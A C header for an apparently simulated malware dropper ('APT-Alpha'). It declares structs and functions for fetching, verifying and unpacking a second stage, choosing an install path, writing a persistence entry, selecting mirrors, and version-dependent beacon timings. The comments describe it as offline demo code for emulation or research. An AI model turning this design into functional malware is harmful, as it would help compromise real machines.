/* APT-Alpha "Dropper" family: fetches a second stage over the fake-TLS channel, checks and unpacks
 * it (zlib) and decides where it would be installed.
 *
 * Demo code: the C2 is simulated in memory (no network) and nothing is written to disk; main()
 * runs one offline round trip and prints what the real tool would do.
 * Versions (-DTOOL_VERSION=N): 1; 2 (persistence entry, more retries, new stage magic);
 * 3 (mirror list, kill date, other timings). */
#ifndef DROPPER_H
#define DROPPER_H

#include <stddef.h>
#include <stdint.h>

#include "alpha.h"

#ifndef TOOL_VERSION
#define TOOL_VERSION 1
#endif

#if TOOL_VERSION >= 3
#define RETRIES 8
#define BEACON_MS 30000
#define STAGE_MAGIC 0x33475453u /* "STG3" */
#elif TOOL_VERSION == 2
#define RETRIES 5
#define BEACON_MS 45000
#define STAGE_MAGIC 0x32475453u /* "STG2" */
#else
#define RETRIES 3
#define BEACON_MS 60000
#define STAGE_MAGIC 0x31475453u /* "STG1" */
#endif

struct url {
    char host[128];
    char path[256];
    unsigned port;
};

struct stage_hdr {
    uint32_t magic;
    uint32_t zlen;
    uint32_t rawlen;
    uint32_t crc;
};

/* http.c */
int parse_url(const char *url, struct url *u);
size_t build_request(char *out, size_t cap, const struct url *u, uint32_t host_id);
long parse_response(const uint8_t *buf, size_t n, const uint8_t **body);

/* stage.c */
int verify_stage(const uint8_t *p, size_t n, struct stage_hdr *h);
uint8_t *unpack_stage(const uint8_t *p, const struct stage_hdr *h);
void stage_path(char *out, size_t cap, uint32_t host_id);
size_t make_stage(uint8_t *out, size_t cap, const void *payload, size_t n);
void persist_entry(char *out, size_t cap, const char *path);
int select_mirror(unsigned attempt, struct url *u);

#endif
